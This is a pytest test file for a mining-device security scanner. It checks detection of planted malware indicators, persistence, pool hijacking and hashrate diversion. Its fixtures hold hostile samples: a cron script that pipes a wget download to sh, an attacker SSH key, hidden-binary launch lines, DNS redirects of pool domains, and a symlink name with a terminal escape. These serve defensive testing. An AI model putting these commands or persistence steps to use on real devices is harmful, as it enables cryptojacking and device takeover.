"""Scanner, desired pool state and hashrate reconciliation (security items 10-14, 17, 18)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import numpy as np
import pytest
import tomli_w

from openmos.cli.main import main
from openmos.security.pools import enforce_pools
from openmos.security.reconcile import reconcile
from openmos.security.scanner import Scanner, build_baseline
from openmos.security.signing import SignatureError, generate_keypair, sign_document


def clean_tree(root: Path) -> Path:
    files = {
        "usr/bin/openmos-agent": b"#!/bin/sh\nexec python -m openmos\n",
        "usr/bin/ntpd": b"\x7fELF" + b"\0" * 400_000,
        "lib/modules/bitmain_axi.ko": b"\x7fELF module",
        "etc/hosts": b"127.0.0.1 localhost\n",
        "etc/resolv.conf": b"nameserver 10.0.0.1\n",
        "etc/rc.local": b"#!/bin/sh\nexit 0\n",
        "etc/crontab": b"# m h dom mon dow user command\n",
        "config/agent.toml": b'hardware = "cpu"\n',
        "config/cgminer.conf": b"{}",
        "root/.ssh/authorized_keys": b"ssh-ed25519 AAAAC3Nza owner@laptop\n",
        "proc/net/tcp": b"  sl  local_address rem_address   st\n"
                        b"   0: 0100007F:0FCC 00000000:0000 0A\n"
                        b"   1: 0200000A:9C40 0500000A:0D05 01\n",
    }
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (root / "proc" / "1").mkdir(parents=True)
    os.symlink("/usr/bin/openmos-agent", root / "proc" / "1" / "exe")
    return root


def infect(root: Path) -> None:
    """Plant every indicator from the security reference."""
    for rel in ("etc/ld.so.preload", "usr/bin/build", "config/.antminers", "usr/bin/antminers", "nvdata/.shadow"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(b"evil")
    with (root / "etc/hosts").open("a") as fh:
        fh.write("203.0.113.7 bitmsfser.info\n203.0.113.8 auth.minerlink.com\n")
    (root / "config/bNminer.conf").write_text('{"pools":[{"url":"stratum+tcp://203.0.113.66:3333"}]}')
    (root / "usr/bin/ntpd").write_bytes(b"\x7fELF" + b"\0" * 3_000_000)
    (root / "lib/modules/bitmain_axi.ko").write_bytes(b"\x7fELF module patched")
    with (root / "etc/crontab").open("a") as fh:
        fh.write("*/5 * * * * root /usr/bin/antminers\n")
    (root / "etc/rc.local").write_text("#!/bin/sh\n/usr/bin/build &\nexit 0\n")
    with (root / "root/.ssh/authorized_keys").open("a") as fh:
        fh.write("ssh-rsa AAAAB3Nza attacker@botnet\n")
    (root / "proc" / "666").mkdir()
    os.symlink("/tmp/.x/kworker", root / "proc" / "666" / "exe")
    (root / "proc" / "666" / "cmdline").write_bytes(b"/tmp/.x/kworker\0-o\0stratum+tcp://evil:3333\0")
    with (root / "proc/net/tcp").open("a") as fh:
        fh.write("   2: 0200000A:9C41 0700710B:1B58 01\n")  # 11.113.0.7:7000 (Antbleed port)
        fh.write("   3: 0200000A:9C42 42007ACB:0D05 01\n")  # 203.122.0.66:3333 undeclared


@pytest.fixture
def keys(tmp_path: Path) -> tuple[bytes, bytes]:
    generate_keypair(tmp_path / "k.pem", tmp_path / "k.pub")
    return (tmp_path / "k.pem").read_bytes(), (tmp_path / "k.pub").read_bytes()


DECLARED = {"10.0.0.5:3333"}  # the user's pool


def test_clean_tree_has_no_findings(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    root = clean_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])
    report = Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan()
    assert report.findings == []
    assert report.files_hashed >= 8


def test_10_to_13_and_18_every_seeded_indicator_is_found(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    root = clean_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])
    infect(root)
    report = Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan()
    where = {(f.check.split(":")[0], f.path.split(":")[0]) for f in report.findings}
    expected = {
        # 10 planted IOC files and hosts entries
        ("ioc-file", "etc/ld.so.preload"), ("ioc-file", "usr/bin/build"), ("ioc-file", "config/.antminers"),
        ("ioc-file", "usr/bin/antminers"), ("ioc-file", "nvdata/.shadow"), ("ioc-host", "etc/hosts"),
        ("lookalike-config", "config/bNminer.conf"), ("oversize-binary", "usr/bin/ntpd"),
        # 11 modified binaries fail the baseline
        ("integrity", "lib/modules/bitmain_axi.ko"), ("integrity", "usr/bin/ntpd"),
        # 12 new cron / rc.local / authorized_keys entries
        ("persistence", "etc/crontab"), ("persistence", "etc/rc.local"), ("persistence", "root/.ssh/authorized_keys"),
        # 13 process running from /tmp
        ("process", "proc/666"),
        # 18 non-allowlisted egress
        ("egress", "proc/net/tcp"),
    }
    assert expected <= where, expected - where
    hosts = {f.detail.split(":")[0] for f in report.by_check("ioc-host")}
    assert hosts == {"bitmsfser.info", "auth.minerlink.com"}
    egress = " ".join(f.detail for f in report.by_check("egress"))
    assert "Antbleed" in egress and "203.122.0.66:3333" in egress and "10.0.0.5" not in egress
    assert report.worst() == "critical"


def test_tampered_baseline_is_refused(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    root = clean_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])
    envelope["signed"]["files"]["usr/bin/ntpd"] = "0" * 64  # the attacker "fixes" the baseline
    with pytest.raises(SignatureError):
        Scanner.with_signed_baseline(root, envelope, keys[1])


def test_mos_scan_cli_exit_codes(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    root = clean_tree(tmp_path / "fs")
    base = tmp_path / "baseline.json"
    assert main(["scan", "--root", str(root), "--make-baseline", str(base), "--key", str(tmp_path / "k.pem")]) == 0
    args = ["scan", "--root", str(root), "--baseline", str(base), "--pubkey", str(tmp_path / "k.pub"),
            "--allow-endpoint", "10.0.0.5:3333"]
    assert main(args) == 0
    infect(root)
    assert main(args) == 1


def test_14_on_device_pool_edit_is_restored(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    config = tmp_path / "agent.toml"
    good = {"hardware": "cpu", "groups": [{"name": "main", "quota": 1, "pools": [
        {"url": "stratum+tcp://10.0.0.5:3333", "user": "me.rig1", "password": "x"}]}]}
    config.write_text(tomli_w.dumps(good))
    desired = sign_document({"groups": [{"name": "main", "quota": 1, "pools": [
        {"url": "stratum+tcp://10.0.0.5:3333", "user": "me.rig1"}]}]}, keys[0])
    assert enforce_pools(config, desired, keys[1]) is None
    hijacked = json.loads(json.dumps(good))
    hijacked["groups"][0]["pools"][0] = {"url": "stratum+tcp://203.0.113.66:3333", "user": "thief.1", "password": "x"}
    config.write_text(tomli_w.dumps(hijacked))
    message = enforce_pools(config, desired, keys[1])
    assert message is not None and "thief.1" in message
    restored = config.read_text()
    assert "10.0.0.5" in restored and "203.0.113.66" not in restored and 'hardware = "cpu"' in restored
    # A desired state signed by someone else is not obeyed.
    forged = dict(desired, signed={"groups": hijacked["groups"]})
    with pytest.raises(SignatureError):
        enforce_pools(config, forged, keys[1])


def simulate_day(seed: int, diverted_minutes: int = 0, hours: float = 24.0, rate_ths: float = 200.0,
                 difficulty: float = 65536.0) -> tuple[np.ndarray, np.ndarray]:
    """Per-minute device hashes and pool-accepted shares; the last ``diverted_minutes`` of every hour go
    to someone else's pool."""
    rng = np.random.default_rng(seed)
    minutes = int(hours * 60)
    device = np.full(minutes, rate_ths * 1e12 * 60)
    to_pool = device.copy()
    if diverted_minutes:
        to_pool[(np.arange(minutes) % 60) >= 60 - diverted_minutes] = 0
    shares = rng.poisson(to_pool / (difficulty * 2**32) * 0.99)  # ~1 % stale/rejected is normal
    return device, shares.astype(np.float64)


def test_17_five_minutes_in_sixty_diversion_is_caught_within_a_day() -> None:
    device, shares = simulate_day(seed=1, diverted_minutes=5)
    caught_at = None
    for hour in range(1, 25):
        result = reconcile(device[: hour * 60], shares[: hour * 60], 65536.0)
        if result.alert:
            caught_at = hour
            break
    assert caught_at is not None and caught_at <= 24
    final = reconcile(device, shares, 65536.0)
    assert final.periodic and 0.88 < final.ratio < 0.93


@pytest.mark.parametrize("seed", range(5))
def test_honest_pool_raises_no_alert(seed: int) -> None:
    device, shares = simulate_day(seed=seed)
    result = reconcile(device, shares, 65536.0)
    assert not result.alert, result.reason


async def test_agent_scans_on_schedule_and_restores_pools(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    """The agent runs the scanner and the desired-pool check itself; REST shows the result."""
    import httpx

    from openmos.api.auth import AuthStore
    from openmos.api.rest import create_app
    from openmos.api.view import DeviceView
    from openmos.hw.cpu import CpuHardware
    from openmos.miner import AgentConfig, MiningAgent

    root = clean_tree(tmp_path / "fs")
    (tmp_path / "base.json").write_text(json.dumps(sign_document(build_baseline(root), keys[0])))
    (tmp_path / "k.pub").write_bytes(keys[1])
    infect(root)
    config_path = tmp_path / "agent.toml"
    good = {"groups": [{"name": "main", "quota": 1, "pools": [{"url": "stratum+tcp://127.0.0.1:1", "user": "me"}]}]}
    hijacked = {"groups": [{"name": "main", "quota": 1,
                            "pools": [{"url": "stratum+tcp://127.0.0.2:1", "user": "thief"}]}]}
    config_path.write_text(tomli_w.dumps(hijacked))
    (tmp_path / "desired.json").write_text(json.dumps(sign_document(good, keys[0])))
    config = AgentConfig.from_dict({**hijacked, "security": {
        "scan_root": str(root), "baseline": str(tmp_path / "base.json"), "pubkey": str(tmp_path / "k.pub"),
        "declared_endpoints": ["10.0.0.5:3333"], "desired_pools": str(tmp_path / "desired.json"),
        "config_path": str(config_path)}})
    agent = MiningAgent(config, CpuHardware())
    report = await agent.run_security_checks()
    assert report is not None and report.worst() == "critical"
    assert [c.endpoint.user for c in agent.pools.connections()] == ["me"]
    await agent.pools.stop()
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(DeviceView(agent), AuthStore(None))),
                                 base_url="http://localhost") as client:
        doc = (await client.get("/api/v1/security")).json()
    assert doc["last_scan"]["worst"] == "critical" and doc["events"]


async def test_scan_runs_fleet_wide_as_a_bulk_action(tmp_path: Path, keys: tuple[bytes, bytes]) -> None:
    from openmos.base.net import free_local_port
    from openmos.fleet.bus import BusConfig, FleetBus
    from openmos.fleet.control import FleetController, TargetQuery
    from openmos.fleet.enroll import EnrollmentRegistry
    from openmos.fleet.node import DeviceNode
    from openmos.fleet.workers.openmos import AgentWorker
    from openmos.hw.cpu import CpuHardware
    from openmos.miner import AgentConfig, MiningAgent

    roots = []
    workers = []
    for i in range(2):
        root = clean_tree(tmp_path / f"fs{i}")
        if i == 1:
            infect(root)
        roots.append(root)
        config = AgentConfig.from_dict({"groups": [{"pools": [{"url": "stratum+tcp://127.0.0.1:1", "user": "x"}]}],
                                        "security": {"scan_root": str(root), "declared_endpoints": ["10.0.0.5"]}})
        workers.append(AgentWorker(MiningAgent(config, CpuHardware()), f"miner-{i}"))
    generate_keypair(tmp_path / "fleet.pem", tmp_path / "fleet.pub")
    bus = FleetBus(BusConfig(listen=[f"tcp/127.0.0.1:{free_local_port()}"]))
    await bus.open()
    nodes = [DeviceNode(bus, "lab", w, [(tmp_path / "fleet.pub").read_bytes()]) for w in workers]
    for node in nodes:
        await node.start()
    registry = EnrollmentRegistry(None)
    for node in nodes:
        registry.pin("lab", node.device.device_id, node.public_key)
    try:
        ctl = FleetController(bus, (tmp_path / "fleet.pem").read_bytes(), tmp_path / "audit.jsonl", registry=registry)
        req = ctl.request("scan", {}, TargetQuery(site="lab"), "alice")
        results = await ctl.execute(req.request_id, "alice")
        assert results["lab/miner-0"]["ok"] and results["lab/miner-0"]["worst"] in ("info", "medium")
        assert results["lab/miner-1"]["ok"] and results["lab/miner-1"]["worst"] == "critical"
    finally:
        for node in nodes:
            await node.stop()
        await bus.close()


# -- issue 12: every persistence class, with and without a baseline; links, contents, CLI errors -------------

STOCK = {  # what a clean control board has at those places (all in the baseline)
    "etc/inittab": b"::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n",
    "root/.profile": b"# ~/.profile\nexport PATH=/usr/sbin:/usr/bin:/sbin:/bin\n",
    "etc/dnsmasq.conf": b"# dnsmasq\ndomain-needed\nbogus-priv\n",
    "etc/systemd/system/multi-user.target.wants/openmos.service": b"[Service]\nExecStart=/usr/bin/openmos-agent\n",
    "config/cgminer.conf": b'{"pools": [{"url": "stratum+tcp://10.0.0.5:3333", "user": "me.rig1", "pass": "x"}]}',
}


def plant(root: Path, rel: str, data: bytes, mode: int = 0o644) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)


# (class, path, bytes, mode, check, minimum severity without a baseline)
PLANTS = [
    ("cron.hourly", "etc/cron.hourly/ntpdate", b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n", 0o755,
     "persistence:cron", "high"),
    ("cron.d", "etc/cron.d/sync", b"*/10 * * * * root /usr/bin/sync-clock\n", 0o644, "persistence:cron", "medium"),
    ("user crontab", "var/spool/cron/crontabs/root", b"@reboot /usr/bin/antminers\n", 0o600, "persistence:cron",
     "high"),
    ("systemd wants", "etc/systemd/system/multi-user.target.wants/kworker.service",
     b"[Service]\nExecStart=/var/tmp/.k/kworker -o stratum+tcp://203.0.113.66:3333\n", 0o644,
     "persistence:systemd", "high"),
    ("inittab respawn", "etc/inittab", STOCK["etc/inittab"] + b"mnr:2345:respawn:/usr/lib/.cache/upd\n", 0o644,
     "persistence:inittab", "high"),
    ("root .profile", "root/.profile", STOCK["root/.profile"] + b"(/dev/shm/.s &) 2>/dev/null\n", 0o644,
     "persistence:shell-profile", "high"),
    ("root .bashrc", "root/.bashrc", b"alias ls='ls --color'\nnohup /usr/bin/upd >/dev/null 2>&1 &\n", 0o644,
     "persistence:shell-profile", "high"),
    ("dnsmasq redirect", "etc/dnsmasq.conf", STOCK["etc/dnsmasq.conf"] + b"address=/bitmsfser.info/203.0.113.7\n",
     0o644, "dns-redirect", "critical"),
    ("dnsmasq pool redirect", "etc/dnsmasq.conf", STOCK["etc/dnsmasq.conf"]
     + b"address=/stratum.braiins.com/203.0.113.66\n", 0o644, "dns-redirect", "high"),
    ("tmp executable", "tmp/.x/kworker", b"\x7fELF\x02\x01\x01" + b"\0" * 64, 0o755, "temp-executable", "critical"),
    ("var/tmp executable", "var/tmp/upd.sh", b"#!/bin/sh\nwhile :; do sleep 60; done\n", 0o755, "temp-executable",
     "high"),
    ("dev/shm executable", "dev/shm/.s", b"\x7fELF" + b"\1" * 32, 0o700, "temp-executable", "critical"),
    ("stock cgminer.conf, foreign pool", "config/cgminer.conf",
     b'{"pools": [{"url": "stratum+tcp://203.0.113.66:3333", "user": "thief.1", "pass": "x"}]}', 0o644,
     "pool-config", "high"),
    ("stock bmminer.conf, foreign pool", "config/bmminer.conf",
     b'{"pools": [{"url": "stratum+tcp://pool.thief.example:443", "user": "thief.2"}]}', 0o644, "pool-config",
     "high"),
]
SEVERITY = {"info": 0, "medium": 1, "high": 2, "critical": 3}


def stock_tree(root: Path) -> Path:
    clean_tree(root)
    for rel, data in STOCK.items():
        plant(root, rel, data)
    return root


@pytest.mark.parametrize("with_baseline", [False, True], ids=["no-baseline", "baseline"])
@pytest.mark.parametrize(("what", "rel", "data", "mode", "check", "severity"), PLANTS, ids=[p[0] for p in PLANTS])
def test_each_persistence_class_is_found(tmp_path: Path, keys: tuple[bytes, bytes], with_baseline: bool, what: str,
                                         rel: str, data: bytes, mode: int, check: str, severity: str) -> None:
    root = stock_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])

    def scan() -> list[tuple[str, str, str]]:
        scanner = Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED) if with_baseline \
            else Scanner(root, None, DECLARED)
        return [(f.check, f.path.split(":")[0].split("#")[0], f.severity) for f in scanner.scan().findings]

    before = [f for f in scan() if f[0] == check and f[1] == rel]
    assert not before or (not with_baseline and SEVERITY[before[0][2]] < SEVERITY[severity]), before
    plant(root, rel, data, mode)
    hits = [f for f in scan() if f[0] == check and f[1] == rel]
    assert hits, f"{what}: nothing reported at {rel}"
    worst = max(SEVERITY[s] for _, _, s in hits)
    # A baseline makes any new or changed persistence point at least "high"; without one, content decides.
    assert worst >= SEVERITY["high" if with_baseline else severity], (what, hits)


def test_clean_stock_tree_with_baseline_is_silent_and_without_is_not_alarming(tmp_path: Path,
                                                                              keys: tuple[bytes, bytes]) -> None:
    root = stock_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])
    assert Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan().findings == []
    report = Scanner(root, None, DECLARED).scan()
    assert report.worst() in ("info", "medium"), report.findings  # stock files are "review", never an alarm


HOST_FILE_LINE = "root:$6$VERYSECRETHASHVALUE:19000:0:99999:7:::"


def test_symlinked_persistence_points_are_never_followed_or_printed(tmp_path: Path, keys: tuple[bytes, bytes],
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """authorized_keys -> a host file must not make the scan read it, let alone print its lines."""
    host = tmp_path / "host-etc"
    host.mkdir()
    (host / "passwd").write_text(HOST_FILE_LINE + "\nssh-rsa AAAAB3Nza line-that-looks-active\n")
    (host / "cron.d").mkdir()
    (host / "cron.d" / "host-job").write_text("* * * * * root " + HOST_FILE_LINE + "\n")
    root = stock_tree(tmp_path / "fs")
    envelope = sign_document(build_baseline(root), keys[0])
    (root / "root/.ssh/authorized_keys").unlink()
    os.symlink(host / "passwd", root / "root/.ssh/authorized_keys")
    os.symlink(host / "passwd", root / "etc/crontab.tmp")
    (root / "etc/crontab").unlink()
    os.symlink(host / "passwd", root / "etc/crontab")
    os.symlink(host / "cron.d", root / "etc/cron.d")  # a whole directory pointing out of the root
    os.symlink(host / "passwd", root / "etc/dnsmasq.d")
    (root / "config/cgminer.conf").unlink()
    os.symlink(host / "passwd", root / "config/cgminer.conf")
    (root / "tmp").mkdir()
    os.symlink(host / "passwd", root / "tmp/payload")
    for report in (Scanner(root, None, DECLARED).scan(),
                   Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan()):
        text = json.dumps([f.__dict__ for f in report.findings])
        assert "VERYSECRET" not in text and "line-that-looks-active" not in text and "host-job" not in text
        links = {f.path for f in report.findings if "symbolic link" in f.detail}
        assert {"root/.ssh/authorized_keys", "etc/crontab"} <= links
    args = ["scan", "--root", str(root), "--allow-endpoint", "10.0.0.5:3333"]
    main(args)
    main([*args, "--json"])
    out = capsys.readouterr()
    assert "VERYSECRET" not in out.out + out.err and "host-job" not in out.out + out.err


def test_fifo_and_huge_files_at_persistence_points_do_not_hang_the_scan(tmp_path: Path) -> None:
    root = stock_tree(tmp_path / "fs")
    (root / "etc/cron.d").mkdir(parents=True)
    os.mkfifo(root / "etc/cron.d/pipe")  # opening a FIFO for reading would block forever
    os.mkfifo(root / "config/bmminer.conf")
    with (root / "root/.bashrc").open("wb") as fh:
        fh.truncate(200 * 1024 * 1024)  # sparse 200 MiB: only the first MiB is looked at
    (root / "config/cgminer.conf").write_text("[" * 100_000)  # deeply nested JSON
    report = Scanner(root, None, DECLARED).scan()
    assert any(f.path == "etc/cron.d/pipe" and "not a regular file" in f.detail for f in report.findings)
    assert any(f.path == "config/cgminer.conf" and "not valid JSON" in f.detail for f in report.findings)


def test_markup_in_hostile_names_is_not_interpreted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = stock_tree(tmp_path / "fs")
    (root / "etc/cron.d").mkdir(parents=True)
    os.symlink("/tmp/[link=http://evil.example]click[/link]\x1b[2J", root / "etc/cron.d/x")
    assert main(["scan", "--root", str(root)]) == 1
    out = capsys.readouterr().out
    assert "[link=http://evil.example]" in out.replace("\n", "") or "link=http" in out
    assert "\x1b[2J" not in out


def test_baseline_without_pubkey_is_a_clear_error(tmp_path: Path, keys: tuple[bytes, bytes],
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    root = stock_tree(tmp_path / "fs")
    base = tmp_path / "baseline.json"
    assert main(["scan", "--root", str(root), "--make-baseline", str(base), "--key", str(tmp_path / "k.pem")]) == 0
    capsys.readouterr()
    assert main(["scan", "--root", str(root), "--baseline", str(base)]) == 2
    err = capsys.readouterr().err
    assert "--baseline and --pubkey go together" in err and len(err.strip().splitlines()) == 1
    assert main(["scan", "--root", str(root), "--pubkey", str(tmp_path / "k.pub")]) == 2
    assert "go together" in capsys.readouterr().err
    (tmp_path / "junk.json").write_text("{not json")
    assert main(["scan", "--root", str(root), "--baseline", str(tmp_path / "junk.json"),
                 "--pubkey", str(tmp_path / "k.pub")]) == 2
    err = capsys.readouterr().err
    assert "is not JSON" in err and "Traceback" not in err
    assert main(["scan", "--root", str(tmp_path / "missing")]) == 2
    assert "not a directory" in capsys.readouterr().err


def test_ipv4_mapped_loopback_is_not_an_undeclared_endpoint(tmp_path: Path) -> None:
    root = stock_tree(tmp_path / "fs")
    # tcp6 rows: ::ffff:127.0.0.1:4028 (local API client), ::ffff:10.0.0.5:3333 (declared pool),
    # ::ffff:203.0.113.66:3333 (undeclared), and two malformed rows that must be skipped.
    (root / "proc/net/tcp6").write_text(
        "  sl  local_address                         remote_address                        st\n"
        "   0: 0000000000000000FFFF00000100007F:9C40 0000000000000000FFFF00000100007F:0FBC 01\n"
        "   1: 0000000000000000FFFF00000200000A:9C41 0000000000000000FFFF00000500000A:0D05 01\n"
        "   2: 0000000000000000FFFF00000200000A:9C42 0000000000000000FFFF00004271_0CB:0D05 01\n"
        "   3: 0000000000000000FFFF00000200000A:9C43 0000000000000000FFFF00004200710B:0D05 01\n"
        "   4: garbage ZZ:QQ 01\n")
    report = Scanner(root, None, DECLARED).scan()
    egress = [f.detail for f in report.by_check("egress")]
    assert egress == ["connection to undeclared endpoint 11.113.0.66:3333"], egress
    # Declared as an IPv4-mapped address or a host name with a port, the endpoint is recognised too.
    assert not Scanner(root, None, {"[::ffff:11.113.0.66]:3333", "10.0.0.5"}).scan().by_check("egress")


def test_declared_pool_in_cgminer_conf_is_quiet_and_known_malware_pool_is_critical(tmp_path: Path) -> None:
    root = stock_tree(tmp_path / "fs")
    assert not Scanner(root, None, DECLARED).scan().by_check("pool-config")
    undeclared = Scanner(root, None, set()).scan().by_check("pool-config")
    assert [f.severity for f in undeclared] == ["medium"]  # nothing declared: said, not alarmed
    plant(root, "config/cgminer.conf", b'{"pools": [{"url": "stratum+tcp://x.bitmsfser.info:3333"}]}')
    assert [f.severity for f in Scanner(root, None, DECLARED).scan().by_check("pool-config")] == ["critical"]
